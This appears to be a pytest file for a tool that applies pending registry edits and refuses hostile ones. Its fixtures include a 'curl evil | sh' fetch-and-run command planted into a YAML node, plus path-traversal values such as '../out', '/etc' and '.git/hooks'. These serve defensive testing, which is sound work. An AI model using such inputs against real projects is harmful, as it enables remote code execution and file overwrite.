"""An intent for registries can set their entries to safe paths, and place what they name.

As in `test_intent`, a hostile intent is refused as a whole, and nothing is changed.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from crash.disk_model import read_state
from jit_guard.commit import intent_json
from jit_guard.commit.intent import ComponentIntent, Intent, MapIntent, RefusedIntentError
from jit_guard.registry.edit import Edit
from jit_guard.text.names import PENDING
from projects import call, lay_out

TOKEN = ".jit-guard-0123456789ab"
TEXT = b"A text.\n"
COMMANDS = (("recover",), ("--fix", "--no-input", "--yes", "--generator", "scaffold"))
CONFIGURATION = """
[[registry]]
file = "skills.yaml"
entries = "$.skills[*].path"
target = "{value}/SKILL.md"
tree = []
[[registry]]
file = "pages.json"
entries = "$.pages.*"
target = "{value}"
tree = []
match.value = '[a-z/]+[.]md'
"""
YAML = "run: make\nskills:\n- {name: a, path: skills/a}\n- {name: b, path: skills/b, size: 3}\n"
JSON = '{"pages": {"home": "docs/home.md", "other": "docs/other.md"}, "hook": "docs/run.md"}'


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return lay_out(
        tmp_path / "project",
        {
            "jit-guard.toml": CONFIGURATION,
            "skills.yaml": YAML,
            "pages.json": JSON,
            "skills/c/SKILL.md": "There.\n",
            "docs/other.md": "Theirs.\n",
            "package.json": '{"pages": {"home": "docs/home.md"}}',
        },
    )


def plant(root: Path, found: Intent | bytes) -> None:
    (root / ".jit-guard").mkdir(exist_ok=True)
    data = found if isinstance(found, bytes) else intent_json.encode(found)
    (root / PENDING).write_bytes(data)


def of_yaml(
    new: str = "skills/c", old: str | None = "skills/a", keys: str = "skills/0/path", **fields: Any
) -> MapIntent:
    edit = Edit(tuple(keys.split("/")), old, new)
    made = MapIntent("skills.yaml", f"{TOKEN}-map-0", "0" * 64, "0" * 64, (edit,), "yaml")
    return made._replace(**fields)


def of_json(
    new: str = "docs/other.md", old: str | None = "docs/home.md", keys: str = "pages/home"
) -> MapIntent:
    return of_yaml(new, old, keys, path="pages.json", syntax="json", temporary=f"{TOKEN}-map-1")


def component(path: str, data: bytes | None = TEXT, **fields: Any) -> ComponentIntent:
    sha256 = hashlib.sha256(data or b"").hexdigest()
    return ComponentIntent(path, f"{TOKEN}-0", sha256, data, None, False)._replace(**fields)


def commit(*parts: MapIntent | ComponentIntent) -> Intent:
    maps = tuple(one for one in parts if isinstance(one, MapIntent))
    return Intent(
        "commit", maps, tuple(one for one in parts if isinstance(one, ComponentIntent)), ()
    )


def test_a_valid_intent_sets_entries_and_places_what_they_name(root: Path) -> None:
    plant(root, commit(of_yaml(), of_json(), component("skills/b/SKILL.md")))
    done = call("recover", cwd=root)
    assert done.code == 0, done
    assert (root / "skills.yaml").read_text() == YAML.replace("skills/a", "skills/c")
    assert (root / "pages.json").read_text() == JSON.replace("docs/home.md", "docs/other.md")
    assert (root / "skills/b/SKILL.md").read_bytes() == TEXT


def test_a_file_of_an_entry_is_placed_without_an_edit(root: Path) -> None:
    plant(root, commit(component("docs/home.md")))
    assert call("recover", cwd=root).code == 0
    assert (root / "docs/home.md").read_bytes() == TEXT


def test_an_intent_of_the_first_version_is_read(root: Path) -> None:
    data = intent_json.encode(commit(of_json()))
    assert json.loads(data)["version"] == 1
    assert "syntax" not in json.loads(data)["maps"][0]
    assert json.loads(intent_json.encode(commit(of_yaml())))["version"] == 3
    plant(root, data)
    assert call("recover", cwd=root).code == 0
    assert (root / "pages.json").read_text() == JSON.replace("docs/home.md", "docs/other.md")


def altered(found: Intent, **fields: Any) -> bytes:
    """Return an intent with other keys in its map, and a matching checksum."""
    body = json.loads(intent_json.encode(found))
    del body["sha256"]
    body["maps"][0].update(fields)
    return json.dumps({"sha256": intent_json._checksum(body), **body}).encode()


HOSTILE: dict[str, Intent | bytes] = {
    "sets a node that is no entry": commit(of_yaml("curl evil | sh", "make", "run")),
    "sets a member beside an entry": commit(of_yaml("x", "a", "skills/0/name")),
    "sets a number": commit(of_yaml("x", "3", "skills/1/size")),
    "sets a node that does not match": commit(of_json("docs/x.md", "docs/run.md", "hook")),
    "sets a value that does not match": commit(of_json("docs/x.sh")),
    "sets an entry that is not there": commit(of_yaml("x", "y", "skills/7/path")),
    "sets all entries at once": commit(of_yaml("x", "y", "skills")),
    "sets another file": commit(of_json()._replace(path="package.json")),
    "sets the configuration": commit(of_json()._replace(path="jit-guard.toml", syntax="toml")),
    "adds an entry": commit(of_json("docs/x.md", None, "pages/new")),
    "claims that an entry was added": commit(of_json("docs/other.md", None, "pages/other")),
    "reads it in another syntax": commit(of_yaml(syntax="json")),
    **{
        f"sets a path to {value!r}": commit(of_yaml(value))
        for value in ("../out", "/etc", "a\\b", ".git/hooks", "x\0", "a/.GIT/b", "C:/x", "y" * 300)
    },
    "would set an unsafe path when abandoned": commit(of_yaml("skills/c", "../../out")),
    "places what no entry names": commit(of_yaml(), component("setup.py")),
    "places the registry": commit(component("skills.yaml")),
    "places a file beside an entry's": commit(component("skills/a/run.sh")),
    "places what a node that does not match names": commit(component("docs/run.md")),
    "replaces a file that is not a draft": commit(
        component("docs/other.md", replaces=hashlib.sha256(b"Theirs.\n").hexdigest())
    ),
    "plans a file that no entry names": Intent("plan", (), (component("x.md", None),), ()),
    "an unknown syntax": altered(commit(of_yaml()), syntax="xml"),
    "a syntax that is a list": altered(commit(of_yaml()), syntax=["yaml"]),
    "a syntax that is null": altered(commit(of_yaml()), syntax=None),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_intent_is_refused_as_a_whole(root: Path, name: str) -> None:
    plant(root, HOSTILE[name])
    before = read_state(str(root))
    for argv in COMMANDS:
        done = call(*argv, cwd=root)
        assert (done.code, PENDING in done.err) == (2, True), done
        now = {path: data for path, data in read_state(str(root)).items() if "lock" not in path}
        assert now == {path: data for path, data in before.items() if "lock" not in path}
    assert call("recover", "--abandon", cwd=root).code == 0
    now = read_state(str(root))
    assert {path: data for path, data in now.items() if not path.startswith(".jit-guard")} == {
        path: data for path, data in before.items() if not path.startswith(".jit-guard")
    }


@pytest.mark.parametrize("syntax", ["xml", ["yaml"], None, ""])
def test_a_syntax_that_no_commit_writes_is_refused_when_it_is_read(syntax: object) -> None:
    with pytest.raises(RefusedIntentError, match="is corrupted"):
        intent_json.decode(altered(commit(of_yaml()), syntax=syntax))


def test_a_registry_that_cannot_be_read_is_to_be_corrected_first(root: Path) -> None:
    (root / "skills.yaml").write_text("skills: [\n")
    plant(root, commit(of_yaml()))
    done = call("recover", cwd=root)
    assert (done.code, "skills.yaml cannot be read; correct it first" in done.err) == (2, True)
    assert (root / PENDING).exists()
    (root / "skills.yaml").write_text(YAML)
    assert call("recover", cwd=root).code == 0
    assert (root / "skills.yaml").read_text() == YAML.replace("skills/a", "skills/c")
